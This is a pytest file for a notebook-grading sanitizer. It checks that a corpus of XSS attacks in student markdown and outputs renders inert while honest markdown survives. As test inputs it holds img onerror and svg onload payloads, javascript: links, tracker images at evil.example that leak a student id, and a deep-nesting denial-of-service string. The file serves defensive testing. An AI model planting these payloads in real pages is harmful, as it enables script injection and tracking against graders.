"""judge/sanitize.py's HTML: what formgrader and the feedback HTML render of a student's markdown cell or output.

Each attack of the corpus (tests/xss_corpus.py) is paired with the same markdown rendered as nbgrader renders it
without the sanitizer (nbconvert): there the rendering holds a script vector or a load from elsewhere, which an
independent check of the HTML (:func:`problems`, not ammonia) finds; sanitized, it finds none, with either layer
alone (the judge's rewritten cell in a stock renderer, or the course's renderer on the student's own cell).
Honest markdown keeps rendering: headings, lists, emphasis, code, tables, math as text for MathJax, links, inline
images.  tests/test_xss_browser.py clicks the same corpus in chromium.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser

import nbformat
import pytest

from judge.sanitize import ID_PREFIX, html_block, markdown2html, render_markdown, safe_html, safe_markdown
from tests.xss_corpus import ELSEWHERE, HONEST, LOADS, PAYLOADS, PNG_B64, RUNS

PNG = f"data:image/png;base64,{PNG_B64}"
ATTACHMENTS = {"plot.png": {"image/png": PNG_B64}}
SCRIPT_ATTRS = re.compile(r"(?i)^(on|formaction$|action$|srcdoc$|xlink:href$|background$|poster$|data$|style$)")
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "cite"}
NEVER = {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "base", "meta", "link", "textarea",
         "noscript", "frame", "frameset", "applet", "template", "animate", "set", "foreignobject", "audio", "video",
         "marquee", "x"}


def _scheme(url: str) -> str:
    """The scheme a browser reads in ``url`` (leading/trailing C0 and spaces dropped, tabs and newlines removed)."""
    url = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return m.group(1).lower() if m else ""


class _Check(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in NEVER:
            self.found.append(f"<{tag}>")
        for key, value in attrs:
            value = value or ""
            if key.startswith("on"):
                self.found.append(f"{tag} {key}")
            elif key == "style" and not re.fullmatch(r"text-align:(left|right|center)", value):
                self.found.append(f"{tag} style={value!r}")
            elif key in URL_ATTRS:
                scheme = _scheme(value)
                if tag == "img" and key == "src":
                    if not re.match(r"data:image/(png|jpeg|gif);base64,", value):
                        self.found.append(f"img src={value!r}")
                elif scheme not in ("", "http", "https", "mailto") or key != "href":
                    self.found.append(f"{tag} {key}={value!r}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.found.append("comment")

    def unknown_decl(self, data):     # <![CDATA[ outside svg/math: a browser reads a bogus comment, ended by ">"
        self.found.append("declaration")


def problems(html: str) -> list[str]:
    """Script vectors and loads in ``html`` (an independent check of the output, stricter than needed)."""
    c = _Check()
    c.feed(html)
    c.close()
    return c.found


def stock(markdown: str) -> str:
    """The markdown as nbgrader renders it without the course's sanitizer (nbconvert's renderer, as formgrader)."""
    return render_markdown(markdown, ATTACHMENTS, course=False)


def course(markdown: str) -> str:
    """As formgrader and the feedback HTML render it with nbgrader_config.py (the course's filter)."""
    return safe_html(render_markdown(markdown, ATTACHMENTS))


@pytest.mark.parametrize("n", sorted(PAYLOADS), ids=lambda n: f"{n}-{PAYLOADS[n][0]}")
def test_corpus_is_inert(n):
    name, markdown = PAYLOADS[n]
    if n in RUNS | LOADS:
        assert problems(stock(markdown)), f"the attack is not in nbconvert's rendering: {stock(markdown)}"
    assert not problems(course(markdown)), course(markdown)                       # the renderer's layer
    judged = safe_markdown(markdown, ATTACHMENTS)
    assert not problems(stock(judged)), (judged, stock(judged))                   # the judge's layer, alone
    assert not problems(course(judged)), course(judged)                           # both


def unwrapped(html: str) -> str:
    """The judge's rewritten cell is one <div> (html_block): the page without that wrapper."""
    html = html.strip()
    return html[5:-6].strip() if html.startswith("<div>") and html.endswith("</div>") else html


@pytest.mark.parametrize("name", sorted(HONEST))
def test_honest_markdown_is_kept_as_nbconvert_renders_it(name):
    """The sanitizer removes nothing from honest markdown but for links' rel and headings' id prefix; the judge's
    rewritten cell renders to the same page."""
    markdown = HONEST[name]
    normal = (stock(markdown).replace("&quot;", '"').replace(" />", ">").replace("&#182;", "¶")
              .replace('id="', f'id="{ID_PREFIX}').replace('href="#', f'href="#{ID_PREFIX}')
              .replace("disabled/>", 'disabled="disabled">'))
    normal = re.sub(r"<a ([^>]*)>", r'<a \1 rel="noopener noreferrer">', normal)
    assert course(markdown) == normal
    assert not problems(course(markdown))
    judged = safe_markdown(markdown, ATTACHMENTS)
    assert unwrapped(course(judged)) == course(markdown).strip(), judged
    assert safe_html(course(markdown)) == course(markdown)        # idempotent


def test_what_honest_markdown_renders_to():
    page = "".join(course(md) for md in HONEST.values())
    for html in ["<h2 id=\"md-My-analysis-of-head-3\">", "<em>soft</em>", "<strong>not</strong>", "<del>never</del>",
                 "<li>the query looks</li>", "<ol>", '<div class="highlight"><pre>', '<span class="k">def</span>',
                 "<code>softmax(x, dim=-1)</code>", '<th style="text-align:left">head</th>', "<td style=\"text-align:right\">0.42</td>",
                 '<a href="https://arxiv.org/abs/1706.03762" title="Attention is all you need" rel="noopener noreferrer">',
                 '<a href="mailto:student@example.org"', f'<img src="{PNG}" alt="my plot">', f'<img src="{PNG}" alt="attached plot">',
                 "<blockquote>", "<details><summary>My derivation</summary>", "<sub>i</sub>", "<b>shift</b>",
                 '<a href="#md-My-analysis-of-head-3"']:
        assert html in page, html
    # math reaches MathJax as text, delimiters and all (the browser decodes &lt;)
    for tex in [r"$s_{ij} = q_i \cdot k_j / \sqrt{d_k}$", r"$$\sum_j a_{ij} = 1$$", "$x&lt;y$", "$a_1 * b_2$"]:
        assert tex in page, tex


def test_an_untouched_answer_keeps_its_source():
    """nbgrader gives an unchanged written answer 0 by its checksum: the judge leaves markdown that renders to what
    the sanitizer keeps as it is (text, emphasis, lists, math) as it is; a heading (its anchor gets the id prefix) or
    a link (rel) is rewritten."""
    for text in ["YOUR ANSWER HERE", "The strongest head keeps pointing at *animal*; weights are $a_{ij}$.",
                 "- one\n- two\n\n1. first"]:
        assert safe_markdown(text) == text
    assert safe_markdown("## a heading").startswith("<div><h2 id=\"md-a-heading\">")


def test_the_judges_cell_is_one_html_block_whatever_its_text():
    """Text that looks like markdown or math syntax in the sanitized rendering stays text when rendered again."""
    html = safe_html("<p>$$a$$ \\[b\\] *c* [d](javascript:x) &lt;img src=x onerror=y&gt;\n\n# e</p><pre>1\n\n2</pre>")
    block = html_block(html)
    assert "\n" not in block and block.startswith("<div>")
    assert unwrapped(safe_html(render_markdown(block, course=False))) == html.strip()


@pytest.mark.parametrize("markdown", [
    "![tracker](https://evil.example/t.png?student=s2)",
    "![tracker]( <https://evil.example/t.png> )",
    "![tracker][t]\n\n[t]: https://evil.example/t.png",
    "![same server](/user/instructor/files/source/02_qkv_by_hand/02_qkv_by_hand.ipynb)",
    "<img src='https://evil.example/t.png' alt=x>",
    "<img src=//evil.example/t.png>",
])
def test_no_image_loads_from_elsewhere(markdown):
    url = "evil.example/t.png" if "evil" in markdown else "/user/instructor"
    assert "<img" in stock(markdown) and url in stock(markdown)      # the pairing: unsanitized, it loads
    for safe in (course(markdown), stock(safe_markdown(markdown))):
        assert not any(url in tag.split(">")[0] for tag in safe.split("<img")[1:]), safe


@pytest.mark.parametrize("markdown", [f"![plot]({PNG})", "![plot](attachment:plot.png)", f"<img src='{PNG}'>"])
def test_inline_images_stay(markdown):
    assert f'<img src="{PNG}"' in course(markdown)
    assert f'<img src="{PNG}"' in safe_html(stock(safe_markdown(markdown, ATTACHMENTS)))


def test_a_remote_image_becomes_a_link_to_it():
    assert course("see ![my figure](https://example.org/fig.png)") == \
        '<p>see <a href="https://example.org/fig.png" rel="noopener noreferrer">my figure</a></p>\n'


def test_no_svg_or_non_raster_data_image():
    svg = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
    assert "<img>" in course(f"<img src='{svg}'>") and svg not in course(f"![x]({svg})")


def test_a_students_id_never_collides_with_the_pages_own():
    """formgrader finds a grade cell's score input by its id (the grade_id): a student's heading or element with
    that id would be found first."""
    html = course('# analysis\n\n<h3 id="analysis">x</h3><span id="analysis">y</span>')
    assert 'id="analysis"' not in html and 'id="md-analysis"' in html


def _config():
    from traitlets.config.loader import PyFileConfigLoader

    from tests.harness import ROOT

    return PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_nbgraders_templates_render_through_the_course_filters(template):
    """nbgrader's formgrade and feedback templates (which call markdown2html without clean_html) with the course's
    HTMLExporter settings: no script vector on the page for the student's own (unjudged) cells and outputs; stock
    settings, the same notebook scripts."""
    import os

    import nbgrader
    from nbconvert import HTMLExporter
    from traitlets.config import Config

    cells = [nbformat.v4.new_markdown_cell(md) for _, md in PAYLOADS.values()]
    cells += [nbformat.v4.new_markdown_cell(md) for name, md in HONEST.items() if name != "attachment"]
    code = nbformat.v4.new_code_cell("x")
    code.outputs = [nbformat.v4.new_output("display_data", data={
        "text/html": "<img src=x onerror=pwned(900)>", "application/javascript": "pwned(901)",
        "image/svg+xml": "<svg onload=pwned(902)></svg>", "text/markdown": "[m](javascript&#58;pwned(903))",
        "text/plain": "x"})]
    code.outputs.append(nbformat.v4.new_output("display_data", data={"image/png": "AAAA"},
                                               metadata={"image/png": {"width": "1 onerror=pwned(904)"}}))
    cells.append(code)
    nb = nbformat.v4.new_notebook(cells=cells)
    base = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader", "templates")
    resources = {"base_url": "", "index": 0, "total": 1,
                 "nbgrader": {"notebook": "n", "score": 0, "max_score": 1, "late_penalty": 0}}
    css = os.path.join(base, "..", "static", "node_modules", "bootstrap", "dist", "css")
    templ = Config({"HTMLExporter": {"template_name": template, "extra_template_basedirs": [base],
                                     "extra_template_paths": [css]}})
    ours = Config(_config())
    ours.merge(templ)
    page = HTMLExporter(config=ours).from_notebook_node(nb, resources=dict(resources))[0]
    body = page[page.index('id="notebook-container"'):]
    body = body[:body.rindex("</body>")]
    assert not [p for p in problems(body) if p != "comment"], problems(body)[:10]
    assert "pwned(90" not in body
    assert "<em>soft</em>" in body and r"$s_{ij} = q_i \cdot k_j / \sqrt{d_k}$" in body
    bare = HTMLExporter(config=templ).from_notebook_node(nb, resources=dict(resources))[0]
    assert len(problems(bare)) > 40 and "pwned(901)" in bare and 'onerror="pwned(904)"' in bare


def test_markdown2html_filter_takes_the_cells_attachments():
    class Ctx(dict):
        pass

    html = markdown2html(Ctx(cell={"attachments": ATTACHMENTS}, resources={}), "![p](attachment:plot.png)")
    assert f'<img src="{PNG}" alt="p">' in html


def test_untouched_written_answers_still_score_0_without_a_human():
    """nbgrader scores a written answer that still has its release checksum 0 (else it waits for a human): after
    the judge's step every untouched answer of every section keeps that 0; an answer written, plain or with a
    heading and a link (rewritten), waits for a human as before."""
    import copy
    import glob

    from nbgrader.utils import determine_grade

    from judge.sanitize import safe_notebook
    from tests.harness import ROOT

    answers = 0
    for path in sorted(glob.glob(str(ROOT / "release" / "*" / "*.ipynb"))):
        nb = nbformat.read(path, as_version=4)
        judged = safe_notebook(copy.deepcopy(nb))
        for cell, after in zip(nb.cells, judged.cells):
            if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("grade"):
                answers += 1
                assert determine_grade(after)[0] == determine_grade(cell)[0] == 0, path
                for written in ("The query looks, the key offers.", "## My answer\n\nSee [the paper](https://arxiv.org)."):
                    cell = copy.deepcopy(cell)
                    cell.source = written
                    nb1 = safe_notebook(nbformat.v4.new_notebook(cells=[cell]))
                    assert determine_grade(nb1.cells[0])[0] is None
    assert answers >= 5


def test_markdown_too_deep_to_sanitize_quickly_is_shown_as_text():
    """ammonia's parse is quadratic in nesting depth (100,000 nested tags: about a minute): a cell rendering to
    more than MAX_TAGS tags is shown as its text, in both layers; an honest long table is still a table."""
    from judge.sanitize import MAX_TAGS

    attack = "<div>" * (MAX_TAGS + 1) + "<img src=x onerror=pwned(1)>"
    for shown in (stock(safe_markdown(attack)), markdown2html({"cell": {}}, attack)):
        assert "(shown as text: more than" in shown and "<img" not in shown and not problems(shown)
        assert "&lt;img src=x onerror=pwned(1)&gt;" in safe_html(shown)
    table = "| head | entropy |\n|---|---|\n" + "".join(f"| {i} | 0.{i} |\n" for i in range(800))
    assert course(table).count("<tr>") == 801 and "shown as text" not in course(table)
    assert stock(safe_markdown(table)).count("<tr>") == 801


def test_a_missing_attachment_stops_nothing():
    """nbconvert raises on ``attachment:`` naming no attachment (formgrader's page would fail, and the judge's step
    with it); here it is an image that is not inline: a link to it."""
    from nbconvert.filters.markdown_mistune import InvalidNotebook

    with pytest.raises(InvalidNotebook):
        stock("![plot](attachment:gone.png)")
    for shown in (stock(safe_markdown("![plot](attachment:gone.png)")), markdown2html({"cell": {}}, "![plot](attachment:gone.png)")):
        assert '<a href="attachment:gone.png"' not in shown and ">plot</a>" in shown and "<img" not in shown
